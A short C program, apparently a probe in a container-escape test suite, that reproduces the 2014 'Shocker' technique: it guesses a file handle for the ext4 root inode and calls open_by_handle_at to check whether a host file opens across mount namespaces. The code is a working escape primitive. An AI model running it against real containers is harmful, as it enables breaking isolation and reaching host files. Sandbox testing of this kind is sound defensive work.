/* "Shocker" (2014): open_by_handle_at with a guessed handle (inode 2, the
 * root directory of an ext4 file system) opens a host file from any
 * descriptor on that file system, whatever the mount namespace. */
#include "escape.h"
#include <fcntl.h>
int main(void)
{
	struct {
		struct file_handle fh;
		unsigned char bytes[8];
	} h = { .fh = { .handle_bytes = 8, .handle_type = 1 } };
	h.bytes[0] = 2; /* inode 2, generation 0 */
	trying("open_by_handle_at(inode 2)");
	return outcome("open_by_handle_at",
		       syscall(SYS_open_by_handle_at, 0, &h.fh, O_RDONLY));
}
